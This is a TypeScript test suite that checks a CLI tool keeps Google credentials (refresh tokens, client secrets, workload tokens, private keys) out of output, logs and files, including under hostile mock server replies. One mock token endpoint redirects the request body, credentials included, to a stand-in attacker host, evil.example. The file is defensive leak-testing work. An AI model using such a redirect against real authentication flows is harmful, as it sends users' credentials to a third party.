/** Each way to authenticate with its own secrets, through verbs and failures: they are in nothing that was printed, logged or kept. */
import { readFile, readdir, writeFile } from "node:fs/promises";
import { request } from "node:http";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Canaries } from "./canaries.ts";
import type { Heard, Mischief, Reply } from "./eavesdropper.ts";
import { Scene } from "./scene.ts";
import type { Said } from "./scene.ts";

let scene: Scene;
const robot = "handover@handover-emulator.iam.gserviceaccount.com";
const pool = "//iam.googleapis.com/pools/security";
const workloadToken = `eyJhbGciOiJub25lIn0.eyJzdWIiOiJjaSJ9.${"their-own-signature-".repeat(3)}`;
const helperSecret = "qL9vWb2TzX7mRk4NcY8dHs3JfP6gUe1AoQ5iVx0B";
/** Those that hold a secret because that is what they are for. */
const keepers = new Set<string>();
const fast = ["--rate", "400/s", "--actor-rate", "400/s"];

type Mode = "person" | "machine" | "workload" | "signed in" | "command";

async function write(name: string, text: string): Promise<string> {
  const path = scene.path(name);
  await writeFile(path, text, { mode: 0o600 });
  return path;
}

beforeAll(async () => {
  scene = await Scene.start(120, ["oauthClientFile", "adcFile"]);
  scene.google.emulator.workloads.registerPool(pool, { [workloadToken]: "principal://ci" });
  keepers.add(scene.google.keyFile);
  for (const name of ["oauthClientFile.json", "adcFile.json"]) keepers.add(scene.path(name));
  keepers.add(await write("their.jwt", workloadToken));
  keepers.add(await write("helper.sh", `echo "could not read ${helperSecret}" >&2; echo ${helperSecret}; exit 3\n`));
  const impersonation = `https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/${robot}:generateAccessToken`;
  await write(
    "workload.json",
    JSON.stringify({
      type: "external_account",
      audience: pool,
      subject_token_type: "urn:ietf:params:oauth:token-type:jwt",
      token_url: "https://sts.googleapis.com/v1/token",
      service_account_impersonation_url: impersonation,
      credential_source: { file: scene.path("their.jwt") },
    }),
  );
  await write("me.csv", "email\nadmin@acme.example\n");
});
afterAll(() => scene.close());

/** What chooses each mode, over the key that the scene's environment names. */
function modeEnv(mode: Mode): NodeJS.ProcessEnv {
  const keyless = { HANDOVER_KEY: "", HANDOVER_SERVICE_ACCOUNT: robot };
  switch (mode) {
    case "person":
      return { ...keyless, GOOGLE_APPLICATION_CREDENTIALS: scene.path("adcFile.json") };
    case "machine":
      return keyless;
    case "workload":
      return { ...keyless, GOOGLE_APPLICATION_CREDENTIALS: scene.path("workload.json") };
    case "signed in":
      return {
        HANDOVER_KEY: "",
        HANDOVER_OAUTH_CLIENT: scene.path("oauthClientFile.json"),
        XDG_STATE_HOME: scene.path("state"),
      };
    case "command":
      return { HANDOVER_KEY: "", HANDOVER_TOKEN_COMMAND: "sh helper.sh" };
  }
}

function visit(address: string): Promise<string> {
  return new Promise((resolve, reject) => {
    request(address, { agent: false }, (answer) => {
      answer.resume().on("end", () => resolve(answer.headers.location ?? ""));
    })
      .on("error", reject)
      .end();
  });
}

/** As a process, so that its arguments and its environment can be looked at too. */
async function signIn(): Promise<{ readonly said: Said; readonly proc: string }> {
  let proc = "";
  const said = await scene.handover(["auth", "login", "--write", "--no-browser"], {
    env: modeEnv("signed in"),
    underway: async (child) => {
      let err = "";
      const address = await new Promise<string>((resolve) =>
        child.stderr?.on("data", (text: string) => {
          err += text;
          const found = /^ {2}(http\S+)$/m.exec(err)?.[1];
          if (found !== undefined) resolve(found);
        }),
      );
      for (const file of ["cmdline", "environ"])
        proc += await readFile(`/proc/${child.pid}/${file}`, "latin1").catch(() => "");
      await visit(await visit(address));
    },
  });
  for (const name of await readdir(scene.path("state/handover"))) keepers.add(scene.path(join("state/handover", name)));
  return { said, proc };
}

async function canaries(): Promise<Canaries> {
  const all = new Canaries();
  const { private_key } = await scene.key();
  for (const line of private_key.split("\n").slice(1, -2)) all.add("a line of the private key", line);
  for (const name of ["oauthClientFile.json", "adcFile.json"]) {
    const text = await readFile(scene.path(name), "utf8");
    for (const [, secret = ""] of text.matchAll(/"(?:client_secret|refresh_token)": "([^"]+)"/g)) all.add(name, secret);
  }
  all.add("the workload's own token", workloadToken.split(".")[2] ?? "");
  all.add("what the token command printed", helperSecret);
  for (const secret of scene.ear.secrets) {
    const [, , signature] = secret.split(".");
    all.add(
      "a proof on its way",
      secret.startsWith("ey") ? (signature ?? "").slice(0, 80) : secret.replace(/^ya29\./, ""),
    );
  }
  return all;
}

/** In everything printed so far, and in every file but those that are there to keep a secret. */
async function nothingFound(): Promise<void> {
  const all = await canaries();
  expect(all.size).toBeGreaterThan(100);
  const finds = scene.said.flatMap(({ command, out, err }) => [
    ...all.search(`stdout of ${command}`, out),
    ...all.search(`stderr of ${command}`, err),
  ]);
  expect(finds).toEqual([]);
  expect(await all.searchFolder(scene.folder, (path) => keepers.has(path))).toEqual([]);
}

describe("a sign-in", () => {
  it("shows the address and nothing that proves anything", async () => {
    const { said, proc } = await signIn();
    expect(said.code, said.err).toBe(0);
    const kinds = ["4/0", "1//0", "ya29.", "GOCSPX-"];
    for (const kind of kinds)
      expect(
        [...scene.ear.secrets].some((secret) => secret.startsWith(kind)),
        kind,
      ).toBe(true);
    expect((await canaries()).search("/proc", proc)).toEqual([]);
    await nothingFound();
  });
});

describe("in good times", () => {
  it.each<[Mode]>([["person"], ["machine"], ["workload"], ["signed in"]])("%s", async (mode) => {
    const env = modeEnv(mode);
    const checked = await scene.inside(["auth", "status", "--check", "--json"], { env });
    expect(checked.code, checked.err + checked.out).toBe(0);
    const name = mode.replace(" ", "-");
    const args = ["inventory", "--users", "me.csv", "-o", name, "--log-file", `${name}.log`, ...fast];
    const said = await scene.handover(args, {
      env: { ...env, NODE_DEBUG: "undici,http,net,child_process", DEBUG: "*" },
    });
    expect(said.code, said.err.slice(-400)).toBe(0);
    await nothingFound();
  });
});

/** Everything a server can say that holds what it was sent. */
function echo({ secret, headers, body }: Heard): string {
  const forms = [...new URLSearchParams(body).values()];
  return [secret, headers.authorization, ...forms, body, Buffer.from(`x${secret}`).toString("base64url")].join(" ");
}

const repeating =
  (status: number, shape: "token" | "api"): ((heard: Heard) => Reply) =>
  (heard) => {
    const said = echo(heard);
    const error =
      shape === "api"
        ? { error: { code: status, message: said, status: said } }
        : { error: "invalid_grant", error_description: said };
    return { status, headers: { "content-type": "application/json" }, body: JSON.stringify(error) };
  };

describe("after each failure", () => {
  const at =
    (path: RegExp, reply: (heard: Heard) => Reply): Mischief =>
    (heard) =>
      path.test(heard.path) ? reply(heard) : undefined;

  it.each<[string, Mode, Mischief | undefined]>([
    [
      "a token endpoint that repeats a refresh token and a client's secret",
      "person",
      at(/^\/token/, repeating(400, "token")),
    ],
    ["one that repeats them of a sign-in", "signed in", at(/^\/token/, repeating(400, "token"))],
    [
      "one that repeats them in its own name for it",
      "signed in",
      at(/^\/token/, (heard) => ({ status: 400, body: JSON.stringify({ error: heard.secret }) })),
    ],
    [
      "one that sends them elsewhere",
      "signed in",
      at(/^\/token/, (heard) => ({ status: 307, headers: { location: `https://evil.example/?${heard.body}` } })),
    ],
    ["one that answers in plain text", "person", at(/^\/token/, (heard) => ({ status: 403, body: echo(heard) }))],
    ["an exchange that repeats a workload's token", "workload", at(/^\/v1\/token/, repeating(400, "token"))],
    [
      "an exchange that answers with it",
      "workload",
      at(/^\/v1\/token/, (heard) => ({ status: 200, body: echo(heard) })),
    ],
    ["an account that will not sign, and repeats who asked", "person", at(/signJwt/, repeating(403, "api"))],
    ["an account that will not be become", "workload", at(/generateAccessToken/, repeating(403, "api"))],
    ["a signature that is none", "machine", at(/signJwt/, (heard) => ({ status: 200, body: echo(heard) }))],
    ["a signature that is refused and repeated", "machine", at(/^\/token/, repeating(400, "token"))],
    [
      "a metadata server of words",
      "machine",
      at(/computeMetadata/, () => ({ status: 403, body: "ya29.something-secret-in-words" })),
    ],
    ["a command that says what it has read", "command", undefined],
  ])("%s", async (_name, mode, mischief) => {
    let struck = 0;
    scene.ear.mischief = (heard) => {
      const reply = mischief?.(heard);
      if (reply !== undefined) struck += 1;
      return reply;
    };
    const env = modeEnv(mode);
    const status = await scene.inside(["auth", "status", "--check"], { env });
    const asJson = await scene.inside(["auth", "status", "--check", "--json"], { env });
    const args = ["inventory", "--users", "me.csv", "-o", "failed", "--log-file", "failed.log", ...fast];
    // What is repeated for as long as it may pass is looked at by the check alone.
    if (asJson.out.includes('"ok":false') && status.code === 4 && !/unreadable|redirected/.test(asJson.out)) {
      expect([1, 4]).toContain((await scene.inside(args, { env })).code);
    }
    scene.ear.mischief = undefined;
    expect(struck > 0).toBe(mischief !== undefined);
    expect(status.code, status.out + status.err).toBe(4);
    await nothingFound();
  });

  it("a sign-in whose code and verifier are repeated", async () => {
    scene.ear.mischief = at(/^\/token/, repeating(400, "token"));
    const { said } = await signIn();
    scene.ear.mischief = undefined;
    expect(said.code).toBe(4);
    expect(said.err).toContain("[hidden]");
    await nothingFound();
  });

  it("a sign-in that cannot be ended", async () => {
    scene.ear.mischief = at(/^\/revoke/, repeating(400, "token"));
    const said = await scene.inside(["auth", "revoke"], { env: modeEnv("signed in") });
    scene.ear.mischief = undefined;
    expect(said.code).not.toBe(0);
    await nothingFound();
  });
});
